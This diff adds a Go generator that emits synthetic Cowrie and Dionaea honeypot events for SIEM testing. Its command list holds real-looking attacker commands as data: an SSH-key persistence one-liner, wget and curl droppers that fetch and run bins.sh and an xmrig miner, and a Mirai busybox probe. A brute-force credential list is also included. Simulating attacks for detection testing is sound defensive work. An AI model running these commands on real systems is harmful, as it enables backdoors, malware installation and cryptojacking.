@@ -0,0 +1,246 @@
+package generators
+
+import (
+	"encoding/json"
+	"fmt"
+	"time"
+
+	"github.com/google/uuid"
+
+	"siem-event-generator/models"
+)
+
+// HoneypotGenerator generates T-Pot style Cowrie and Dionaea honeypot events
+type HoneypotGenerator struct {
+	BaseGenerator
+}
+
+func init() {
+	Register(&HoneypotGenerator{})
+}
+
+// GetEventType returns the event type for honeypot events
+func (g *HoneypotGenerator) GetEventType() models.EventType {
+	return models.EventType{
+		ID:          "honeypot",
+		Name:        "Honeypot (Cowrie/Dionaea)",
+		Category:    "network",
+		Description: "Cowrie SSH/Telnet session events and Dionaea connection events from a T-Pot sensor, with attacker IPs from the threat intel feed",
+		EventIDs:    []string{"cowrie.login.failed", "cowrie.login.success", "cowrie.command.input", "cowrie.session.file_download", "dionaea.connection"},
+	}
+}
+
+// GetTemplates returns available templates for honeypot events
+func (g *HoneypotGenerator) GetTemplates() []models.EventTemplate {
+	return []models.EventTemplate{
+		{
+			ID:          "cowrie.login.failed",
+			Name:        "Cowrie Login Failed",
+			Category:    "honeypot",
+			EventID:     "cowrie.login.failed",
+			Format:      "json",
+			Description: "SSH/Telnet brute-force attempt with a common credential pair",
+			Sourcetype:  "cowrie",
+		},
+		{
+			ID:          "cowrie.login.success",
+			Name:        "Cowrie Login Success",
+			Category:    "honeypot",
+			EventID:     "cowrie.login.success",
+			Format:      "json",
+			Description: "Attacker accepted into the emulated shell",
+			Sourcetype:  "cowrie",
+		},
+		{
+			ID:          "cowrie.command.input",
+			Name:        "Cowrie Command Input",
+			Category:    "honeypot",
+			EventID:     "cowrie.command.input",
+			Format:      "json",
+			Description: "Command typed in the emulated shell: recon, persistence, miners and droppers",
+			Sourcetype:  "cowrie",
+		},
+		{
+			ID:          "cowrie.session.file_download",
+			Name:        "Cowrie File Download",
+			Category:    "honeypot",
+			EventID:     "cowrie.session.file_download",
+			Format:      "json",
+			Description: "Payload fetched with wget/curl and captured by the honeypot",
+			Sourcetype:  "cowrie",
+		},
+		{
+			ID:          "dionaea.connection",
+			Name:        "Dionaea Connection",
+			Category:    "honeypot",
+			EventID:     "dionaea.connection",
+			Format:      "json",
+			Description: "Connection to an emulated SMB, MSSQL, MySQL, HTTP, FTP or SIP service",
+			Sourcetype:  "dionaea",
+		},
+	}
+}
+
+// The honeypot sensor
+const (
+	honeypotSensor = "tpot-01"
+	honeypotIP     = "172.31.8.20"
+)
+
+// cowrieCredentials are username/password pairs seen in real brute-force
+// dictionaries
+var cowrieCredentials = [][2]string{
+	{"root", "root"}, {"root", "123456"}, {"admin", "admin"}, {"root", "password"},
+	{"ubuntu", "ubuntu"}, {"pi", "raspberry"}, {"user", "user"}, {"root", "1qaz2wsx"},
+	{"oracle", "oracle"}, {"test", "test"}, {"postgres", "postgres"}, {"support", "support"},
+	{"root", "admin123"}, {"guest", "guest"}, {"git", "git"}, {"root", "Passw0rd"},
+}
+
+// Generate creates a honeypot event
+func (g *HoneypotGenerator) Generate(templateID string, overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+	sourcetype := "cowrie"
+	var fields map[string]interface{}
+
+	switch templateID {
+	case "cowrie.login.failed", "cowrie.login.success":
+		attacker := Threats.RandomIP(g.rnd, "ssh-bruteforce", "botnet", "scanner")
+		fields = g.cowrieBase(now, templateID, attacker)
+		cred := cowrieCredentials[g.RandomZipf(len(cowrieCredentials), 1.0)]
+		fields["username"], fields["password"] = cred[0], cred[1]
+		verb := "failed"
+		if templateID == "cowrie.login.success" {
+			verb = "succeeded"
+		}
+		fields["message"] = fmt.Sprintf("login attempt [%s/%s] %s", cred[0], cred[1], verb)
+	case "cowrie.command.input":
+		attacker := Threats.RandomIP(g.rnd, "ssh-bruteforce", "botnet")
+		fields = g.cowrieBase(now, templateID, attacker)
+		cmd := g.command(attacker)
+		fields["input"] = cmd
+		fields["message"] = "CMD: " + cmd
+	case "cowrie.session.file_download":
+		attacker := Threats.RandomIP(g.rnd, "botnet", "malware-distribution", "ssh-bruteforce")
+		fields = g.cowrieBase(now, templateID, attacker)
+		host := Threats.RandomIP(g.rnd, "malware-distribution").IP
+		file := g.RandomChoice([]string{"x86", "bins.sh", "kinsing", "xmrig", "sshd", ".x.tar.gz", "mips"})
+		shasum := g.RandomSHA256()
+		fields["url"] = fmt.Sprintf("http://%s/%s", host, file)
+		fields["outfile"] = "var/lib/cowrie/downloads/" + shasum
+		fields["shasum"] = shasum
+		fields["destfile"] = "/tmp/" + file
+		fields["duration"] = g.RandomFloat(0.2, 8)
+		fields["message"] = fmt.Sprintf("Downloaded URL (%s) with SHA-256 %s to %s", fields["url"], shasum, fields["outfile"])
+	case "dionaea.connection":
+		sourcetype = "dionaea"
+		fields = g.dionaeaConnection(now)
+	default:
+		return nil, fmt.Errorf("unknown template ID: %s", templateID)
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+	rawEvent, _ := json.Marshal(fields)
+
+	return &models.GeneratedEvent{
+		ID:         uuid.New().String(),
+		Type:       "honeypot",
+		EventID:    templateID,
+		Timestamp:  now,
+		RawEvent:   string(rawEvent),
+		Fields:     fields,
+		Sourcetype: sourcetype,
+	}, nil
+}
+
+// cowrieBase returns the fields Cowrie writes on every event, plus the
+// geoip enrichment T-Pot adds before indexing
+func (g *HoneypotGenerator) cowrieBase(now time.Time, eventID string, attacker *ThreatIP) map[string]interface{} {
+	protocol := g.WeightedChoice([]string{"ssh", "telnet"}, []float64{80, 20})
+	port := 22
+	if protocol == "telnet" {
+		port = 23
+	}
+	return map[string]interface{}{
+		"eventid":   eventID,
+		"timestamp": now.Format("2006-01-02T15:04:05.000000Z"),
+		"session":   g.RandomHex(6),
+		"src_ip":    attacker.IP,
+		"src_port":  g.RandomInt(32768, 65535),
+		"dst_ip":    honeypotIP,
+		"dst_port":  port,
+		"protocol":  protocol,
+		"sensor":    honeypotSensor,
+		"type":      "Cowrie",
+		"geoip": map[string]interface{}{
+			"country_code2": attacker.Country,
+			"asn":           attacker.ASN,
+			"as_org":        attacker.ASOrg,
+		},
+	}
+}
+
+// command returns a command typical of post-login bot activity
+func (g *HoneypotGenerator) command(attacker *ThreatIP) string {
+	dropper := Threats.RandomIP(g.rnd, "malware-distribution").IP
+	commands := []string{
+		"uname -a",
+		"cat /proc/cpuinfo | grep name | wc -l",
+		"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
+		"ls -lh $(which ls)",
+		"crontab -l",
+		"w",
+		"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
+		fmt.Sprintf("cd /tmp || cd /var/run || cd /mnt; wget http://%s/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh", dropper),
+		fmt.Sprintf("curl -s http://%s/xmrig -o /tmp/.xm && chmod +x /tmp/.xm && /tmp/.xm -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", dropper),
+		"echo -e \"\\x6F\\x6B\"",
+		"enable; system; shell; sh",
+		"/bin/busybox MIRAI",
+	}
+	if hasAnyTag(attacker.Tags, []string{"mirai"}) {
+		return commands[g.weightedIndex([]float64{5, 5, 5, 5, 5, 5, 5, 20, 5, 15, 10, 15})]
+	}
+	return commands[g.weightedIndex([]float64{15, 12, 10, 8, 8, 8, 12, 10, 10, 3, 1, 1})]
+}
+
+// dionaeaConnection returns a T-Pot Dionaea connection record for one of the
+// emulated services
+func (g *HoneypotGenerator) dionaeaConnection(now time.Time) map[string]interface{} {
+	services := []struct {
+		port     int
+		protocol string
+		tags     []string
+	}{
+		{445, "smbd", []string{"smb-exploit", "scanner"}},
+		{1433, "mssqld", []string{"scanner", "botnet"}},
+		{3306, "mysqld", []string{"scanner"}},
+		{80, "httpd", []string{"scanner", "botnet"}},
+		{21, "ftpd", []string{"scanner"}},
+		{5060, "SipSession", []string{"scanner"}},
+	}
+	svc := services[g.weightedIndex([]float64{45, 20, 10, 15, 5, 5})]
+	attacker := Threats.RandomIP(g.rnd, svc.tags...)
+	transport := "tcp"
+	if svc.protocol == "SipSession" {
+		transport = "udp"
+	}
+
+	return map[string]interface{}{
+		"timestamp": now.Format("2006-01-02T15:04:05.000000"),
+		"src_ip":    attacker.IP,
+		"src_port":  g.RandomInt(1024, 65535),
+		"dst_ip":    honeypotIP,
+		"dst_port":  svc.port,
+		"connection": map[string]interface{}{
+			"type":      "accept",
+			"transport": transport,
+			"protocol":  svc.protocol,
+		},
+		"sensor": honeypotSensor,
+		"type":   "Dionaea",
+		"geoip": map[string]interface{}{
+			"country_code2": attacker.Country,
+			"asn":           attacker.ASN,
+			"as_org":        attacker.ASOrg,
+		},
+	}
+}